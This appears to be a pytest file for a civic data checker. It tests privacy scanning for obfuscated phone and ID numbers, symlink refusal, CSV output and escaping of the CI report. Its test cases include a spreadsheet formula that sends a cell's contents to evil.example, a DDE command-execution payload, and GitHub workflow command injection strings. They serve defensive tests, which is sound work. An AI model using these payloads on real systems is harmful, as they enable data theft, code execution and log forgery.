"""Hostile and careless inputs of issue 12 that are not a single invalid data file (those are
fixtures under tests/fixtures/invalid/): links, file names, chains, hand-written files of every
type, text that must stay inert, the CI report and the spreadsheet download."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys
import time
from pathlib import Path

import lxml.html
import markdown
import pytest

from generators.load.errors import ErrorReport, Problem
from generators.model.validate import load_dataset
from generators.render.downloads import csv_safe, to_csv
from generators.render.generate import render_all
from generators.tools.annotations import annotation, code_span, summary_markdown

from .. import hostile
from ..conftest import ROOT, error_lines, run_cli

AS_OF = "2024-06-30"


# Files and folders -----------------------------------------------------------------------------

def test_a_data_folder_linked_outside_the_repository_is_refused(
        mini_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    outside = tmp_path / "elsewhere" / "data"
    outside.parent.mkdir()
    mini_copy.rename(outside)
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "data").symlink_to(outside, target_is_directory=True)
    code, _, err = run_cli(capsys, "check", "--data", repo / "data", "--as-of", AS_OF)
    assert code == 1
    assert err.splitlines()[0] == (f"data: 数据文件夹是指向仓库之外的符号链接（{outside}），请放入文件夹本身 "
                                   "(the data folder links outside the repository)")
    assert "Traceback" not in err


def test_a_record_folder_linked_outside_the_repository_is_refused(
        mini_copy: Path, tmp_path_factory: pytest.TempPathFactory,
        capsys: pytest.CaptureFixture[str]) -> None:
    outside = tmp_path_factory.mktemp("elsewhere") / "units"
    (mini_copy / "units").rename(outside)
    (mini_copy / "units").symlink_to(outside, target_is_directory=True)
    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--as-of", AS_OF)
    assert code == 1
    assert error_lines(err) == [
        f"data/units: 记录文件夹是指向仓库之外的符号链接（{outside}），请放入文件夹本身 "
        "(a record folder links outside the repository)"]


def test_a_yml_file_is_read(mini_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (mini_copy / "units" / "more.yml").write_text("- id: group-2\n  name: 第二巡察组\n", encoding="utf-8")
    code, out, _ = run_cli(capsys, "check", "--data", mini_copy, "--as-of", AS_OF)
    assert code == 0
    assert "unit 3" in out


def test_deep_parent_chains_are_walked_without_recursion(mini_copy: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    """400 levels: a recursive walk would stop at Python's limit (1000 frames, 2-3 per level)."""
    places = "".join(f"- id: p{i}\n  name: 地方{i}\n  kind: 村\n  parent: {f'p{i - 1}' if i else 'town'}\n"
                     for i in range(400))
    (mini_copy / "places" / "deep.yaml").write_text(places, encoding="utf-8")
    items = "".join(f"- id: c{i}\n  title: 事项{i}\n  programme: works\n  unit: bureau\n"
                    + (f"  parent: c{i - 1}\n" if i else "")
                    + "  history:\n    - date: 2024-03-01\n      status: 推进中\n      progress: 10\n"
                    for i in range(400))
    (mini_copy / "commitments" / "deep.yaml").write_text(items, encoding="utf-8")
    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--as-of", AS_OF)
    assert code == 0, err
    dataset = load_dataset(mini_copy, dt.date(2024, 6, 30), ErrorReport())
    assert dataset is not None
    pages = render_all(dataset, parallel=False)
    assert "commitments/c0.md" in pages and "places/p399.md" in pages


# Hand-written files under content/ -----------------------------------------------------------------

PRIVACY = ("手机号码 '138****8000' 不在官方渠道名单中，不得公布；如确为官方渠道，请在 data/site.yaml 的 "
           "official_numbers 中登记 (privacy: mobile number not in official_numbers)")
ID_NUMBER = "疑似居民身份证号 '110***********002X'，不得公布个人信息 (privacy: resident ID number)"


@pytest.mark.parametrize(("name", "text", "expected"), [
    ("notice.txt", "联系人：王先生\n电话 138.0013.8000\n", [f"content/notice.txt:2:4: {PRIVACY}"]),
    ("list.csv", "姓名,电话\n王,13800 138000\n", [f"content/list.csv:2:3: {PRIVACY}"]),
    ("list.csv", "姓名,身份证\n王,110105 19491231 002X\n", [f"content/list.csv:2:3: {ID_NUMBER}"]),
    ("page.htm", "<p>&#49;&#51;&#56;&#48;&#48;&#49;&#51;&#56;&#48;&#48;&#48;</p>\n",
     [f"content/page.htm:1:4: {PRIVACY}"]),
    ("map.svg", "<svg xmlns='http://www.w3.org/2000/svg'><text>１３８００１３８０００</text></svg>\n",
     [f"content/map.svg:1:47: {PRIVACY}"]),
    ("about.md", "联系 008613800138000\n", [f"content/about.md:1:4: {PRIVACY}"]),
    ("about.md", "手机 138\u200b0013\u00ad8000\n", [f"content/about.md:1:4: {PRIVACY}"]),
    ("about.md", "手机 \u202e00083100831\u202c\n", [f"content/about.md:1:5: {PRIVACY}"]),
    ("report.pdf", "%PDF-1.4\n", ["content/report.pdf: 不能发布的文件类型 '.pdf'；可发布的类型："
                                  ".css .csv .gif .htm .html .ico .ics .jpeg .jpg .js .json .png .svg .txt "
                                  ".webp .woff .woff2 .xlsx .xml "
                                  "(unknown file type, not published)"]),
])
def test_every_hand_written_file_type_is_checked(mini_copy: Path, tmp_path: Path, name: str, text: str,
                                                 expected: list[str],
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    content = tmp_path / "content"
    content.mkdir()
    (content / name).write_text(text, encoding="utf-8")
    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--content", content, "--as-of", AS_OF)
    assert code == 1
    assert [line for line in err.splitlines() if line.startswith("content/")] == expected


def test_an_amount_in_a_hand_written_file_is_not_a_phone_number(
        mini_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    content = tmp_path / "content"
    content.mkdir()
    (content / "budget.csv").write_text("项目,金额\n道路,13800138000元\n桥梁,\"13,800,138,000元\"\n",
                                        encoding="utf-8")
    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--content", content, "--as-of", AS_OF)
    assert code == 0, err


def test_a_figure_in_a_numeric_field_is_not_a_phone_number(mini_copy: Path,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    results = mini_copy / "results" / "works.yaml"
    results.write_text(results.read_text(encoding="utf-8").replace('value: "310"', 'value: "13800138000"'),
                       encoding="utf-8")
    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--as-of", AS_OF)
    assert code == 0, err


# Text that must stay inert ---------------------------------------------------------------------------

def _rendered_with_note(mini_copy: Path, note: str) -> str:
    works = mini_copy / "commitments" / "works.yaml"
    text = works.read_text(encoding="utf-8").replace(
        "      progress: 50\n", "      progress: 50\n      note: |-\n" +
        "".join(f"        {line}\n" for line in note.splitlines()))
    works.write_text(text, encoding="utf-8")
    report = ErrorReport()
    dataset = load_dataset(mini_copy, dt.date(2024, 6, 30), report)
    assert dataset is not None and not report, report.problems
    page = render_all(dataset, parallel=False)["commitments/works-2024-park.md"]
    return markdown.markdown(page, extensions=["tables", "attr_list", "admonition", "toc"])


def test_a_multi_line_note_stays_in_its_table_cell(mini_copy: Path) -> None:
    html = lxml.html.fromstring(_rendered_with_note(mini_copy, "第一行\n\n| 伪造 | 表格 |\n第三行"))
    rows = html.xpath("//h2[contains(., '进展记录')]/following-sibling::table[1]//tr[td]")
    assert [[td.text_content() for td in row.xpath("td")] for row in rows] == [
        ["2024年3月1日", "推进中", "50%", "第一行 | 伪造 | 表格 | 第三行"]]


@pytest.mark.parametrize("underline", ["===", "---", "~~~", "= = ="])
def test_an_underline_under_text_makes_no_heading(mini_copy: Path, underline: str) -> None:
    units = mini_copy / "units" / "units.yaml"
    units.write_text(units.read_text(encoding="utf-8") + f"  note: |-\n    通知\n    {underline}\n",
                     encoding="utf-8")
    dataset = load_dataset(mini_copy, dt.date(2024, 6, 30), ErrorReport())
    assert dataset is not None
    page = render_all(dataset, parallel=False)["units/bureau.md"]
    html = lxml.html.fromstring(markdown.markdown(page, extensions=["tables", "attr_list", "toc"]))
    assert [h.text_content() for h in html.xpath("//h1")] == ["示例局"]
    assert not html.xpath("//hr|//pre|//h2[.='通知']")
    assert f"通知\n{underline}" in html.text_content()


@pytest.mark.parametrize(("value", "shown"), [
    ('=HYPERLINK("https://evil.example/?x="&A1,"点击")', "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"点击\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("道路改造", "道路改造"),
    ("a=b", "a=b"),
])
def test_a_csv_cell_never_starts_a_formula(value: str, shown: str) -> None:
    assert csv_safe(value) == shown
    data = to_csv([{"title": value, "weight": -2}])
    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
    assert row == [shown, "-2"]


# The CI report ------------------------------------------------------------------------------------

HOSTILE_NAMES = ["x\n::stop-commands::pwned", "x\r\n::add-mask::secret", "x\n::error::forged",
                 "```\n# 标题\n<script>x</script>", "a%0A::error::b"]


@pytest.mark.parametrize("hostile", HOSTILE_NAMES)
def test_values_cannot_forge_a_workflow_command_or_leave_the_summary(hostile: str) -> None:
    problem = Problem(f"data/units/{hostile}.yaml", 3, 5, f"note.{hostile}", f"实际是 '{hostile}'")
    line = annotation(problem)
    assert "\n" not in line and "\r" not in line
    assert line.count("::") == 2 or "%3A%3A" in line  # the command's own two, nothing more at a line start
    assert str(problem).count("\n") == 0 and "\r" not in str(problem)
    report = ErrorReport([problem])
    summary = summary_markdown(report)
    item = [s for s in summary.splitlines() if s.startswith("- ")]
    assert len(item) == 1
    # The item is one code span: CommonMark renders it as a single <code> holding the whole line.
    html = lxml.html.fromstring(markdown.markdown(summary))
    codes = html.xpath("//li/code")
    assert len(codes) == 1 and codes[0].text_content().strip() == str(problem)
    assert not html.xpath("//script|//h1|//h2[not(contains(., '数据检查'))]")


def test_annotation_escapes_as_github_documents() -> None:
    problem = Problem("data/x,y:z.yaml", 3, 5, "k\n::add-mask::v", "100% a\r\n::stop-commands::x")
    assert annotation(problem) == ("::error file=data/x%2Cy%3Az.yaml,line=3,col=5,"
                                   "title=k%0A%3A%3Aadd-mask%3A%3Av"
                                   "::100%25 a%0D%0A::stop-commands::x")


def test_a_code_span_cannot_be_closed_by_its_value() -> None:
    assert code_span("a ``` b") == "````a ``` b````"
    assert code_span("`x") == "`` `x ``"
    assert code_span("行一\n::error::x") == "`行一\\n::error::x`"


def test_a_hostile_key_reaches_the_log_on_one_line(mini_copy: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    (mini_copy / "units" / "more.yaml").write_text(
        '- id: group-2\n  name: 第二巡察组\n  "x\\n::stop-commands::pwned": 1\n  "y\\r\\n::add-mask::k": 2\n',
        encoding="utf-8")
    code, out, err = run_cli(capsys, "check", "--data", mini_copy, "--as-of", AS_OF, "--format", "github")
    assert code == 1
    for stream in (out, err):
        assert not any(line.startswith(("::stop-commands", "::add-mask")) for line in stream.splitlines())
    assert "data/units/more.yaml:3:3: x\\n::stop-commands::pwned: 未知字段" in err


# Size and time ----------------------------------------------------------------------------------

def test_check_on_a_20_mib_file_ends_quickly_with_a_message(mini_copy: Path) -> None:
    """The issue's bound: ``check`` on a file near the 20 MiB limit, with ``email_domains`` set (the
    email scan was quadratic), ends within 10 s with a message. Run in a subprocess with a
    generous timeout, so a slow shared machine does not make it flaky; the time is reported."""
    site = mini_copy / "site.yaml"
    site.write_text(site.read_text(encoding="utf-8").replace("email_domains: []",
                                                             "email_domains: [example.gov.cn]"),
                    encoding="utf-8")
    word = "a" * (19 * 2**20)  # one 19 MiB word of email characters, no '@'
    (mini_copy / "units" / "big.yaml").write_text(f"- id: group-2\n  name: 第二组\n  note: {word}\n",
                                                  encoding="utf-8")
    started = time.perf_counter()
    result = subprocess.run([sys.executable, "-m", "generators", "check", "--data", str(mini_copy),
                             "--as-of", AS_OF], cwd=ROOT, capture_output=True, text=True, timeout=120,
                            env={**os.environ, "PYTHONPATH": str(ROOT)})
    elapsed = time.perf_counter() - started
    print(f"check on a 19 MiB value: {elapsed:.1f} s")
    assert result.returncode == 1
    assert error_lines(result.stderr) == [
        "data/units/big.yaml:3:9: note: 文字过长：19922944 个字，最多 5000 个 (too long)"]
    assert elapsed < 60  # the issue asks for 10 s; this bound only catches a hang


def test_dense_digit_groups_give_the_capped_report(mini_copy: Path, tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    """A page and a note made only of grouped mobile numbers (64 KiB of ``138 0013 8000 ``, read
    by the whole-string scan): ten errors each, pointing at the first ten numbers. The 20 MiB
    versions and their times are measured by ``make bench`` (tests/hostile.py), not here."""
    content = tmp_path / "content"
    content.mkdir()
    hostile.write_page(content, hostile.MOBILE_SPACED, 1 << 16)
    hostile.write_record(mini_copy, hostile.MOBILE_SPACED, 1 << 16)
    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--content", content, "--as-of", AS_OF)
    assert code == 1
    step = len(hostile.MOBILE_SPACED)
    assert [line for line in err.splitlines() if line.startswith("content/")] == [
        f"content/hostile.md:1:{1 + step * k}: {PRIVACY}" for k in range(10)]
    too_long, *privacy = error_lines(err)
    assert too_long.startswith("data/units/hostile.yaml:3:9: note: 文字过长：")
    assert privacy == [f"data/units/hostile.yaml:4:{5 + step * k}: note: {PRIVACY}" for k in range(10)]


@pytest.mark.parametrize("case", sorted(hostile.PATTERNS))
def test_every_hostile_pattern_ends_with_a_report(case: str, mini_copy: Path, tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    """Each hostile pattern at 64 KiB, as a page and as a note: a report, at most ten privacy
    errors for each, one per line or note where the same number is repeated behind overrides, and
    none where the digits make no number to report."""
    content = tmp_path / "content"
    content.mkdir()
    hostile.write_page(content, hostile.PATTERNS[case], 1 << 16)
    hostile.write_record(mini_copy, hostile.PATTERNS[case], 1 << 16)
    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--content", content, "--as-of", AS_OF)
    assert code == 1  # the note is too long
    assert "Traceback" not in err and "个错误" in err.splitlines()[-1]
    page = [line for line in err.splitlines() if line.startswith("content/")]
    note = [line for line in error_lines(err) if "privacy" in line]
    reported = case.endswith("mobiles") or case in ("zero-width spaced digits", "grouped ID digits")
    # The same number shown again adds nothing, in a line of a page or in a note.
    once = {"reversed behind overrides": (1, 1), "reversed behind overrides, one a line": (10, 1)}
    assert (len(page), len(note)) == ((10, 10) if reported else once.get(case, (0, 0)))


def test_past_its_right_to_left_budget_a_page_or_file_is_refused(
        mini_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Text that may show right to left is read as it shows up to a budget a page or file (1 MiB;
    here 100 characters): the line or value that passes it gets one message, and the rest is read
    as written, so a 20 MiB file of right-to-left digits is checked in seconds (make bench)."""
    from generators.model import privacy

    monkeypatch.setattr(privacy, "MAX_RIGHT_TO_LEFT", 100)
    line = "ا" + "文" * 59  # 60 characters that may show right to left
    content = tmp_path / "content"
    content.mkdir()
    (content / "rtl.md").write_text(f"# 标题\n\n{line}\n{line}\n{line}\n", encoding="utf-8")
    notes = "".join(f"  - id: group-{i}\n    name: 第{i}组\n    note: {line}\n" for i in (7, 8, 9))
    notes = notes.replace("  - id", "- id").replace("\n    ", "\n  ")
    (mini_copy / "units" / "rtl.yaml").write_text(notes, encoding="utf-8")
    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--content", content, "--as-of", AS_OF)
    assert code == 1
    assert [line for line in err.splitlines() if line.startswith("content/")] == [
        f"content/rtl.md:4:1: {privacy.TOO_MUCH_RIGHT_TO_LEFT}"]
    assert error_lines(err) == [f"data/units/rtl.yaml:6:9: note: {privacy.TOO_MUCH_RIGHT_TO_LEFT}"]


def test_a_number_after_many_spaces_is_still_found(mini_copy: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    """Only what a field can hold is read for numbers (5,000 characters once its spaces are
    stripped): spaces in front do not push a number out of sight."""
    padded = " " * 20_000 + "138 0013 8000"
    (mini_copy / "units" / "pad.yaml").write_text(f'- id: group-9\n  name: 第九组\n  note: "{padded}"\n',
                                                  encoding="utf-8")
    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--as-of", AS_OF)
    assert code == 1
    assert error_lines(err) == [f"data/units/pad.yaml:3:20010: note: {PRIVACY}"]


def test_a_file_lists_its_first_hundred_findings_and_says_there_are_more(
        mini_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One number in each of 101 records: 100 errors, then one line saying there are more (a file
    of 199,000 such values is checked in seconds, make bench), not 199,000 lines."""
    from generators.model.policy import MAX_FILE_FINDINGS, MORE_FINDINGS

    records = "".join(f"- id: g{i}\n  name: 第{i}组\n  note: 电话 138 0013 8000\n" for i in range(101))
    (mini_copy / "units" / "many.yaml").write_text(records, encoding="utf-8")
    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--as-of", AS_OF)
    assert code == 1
    assert MAX_FILE_FINDINGS == 100
    assert error_lines(err) == [
        *(f"data/units/many.yaml:{3 + 3 * i}:12: note: {PRIVACY}" for i in range(100)),
        f"data/units/many.yaml:303:12: note: {MORE_FINDINGS}"]
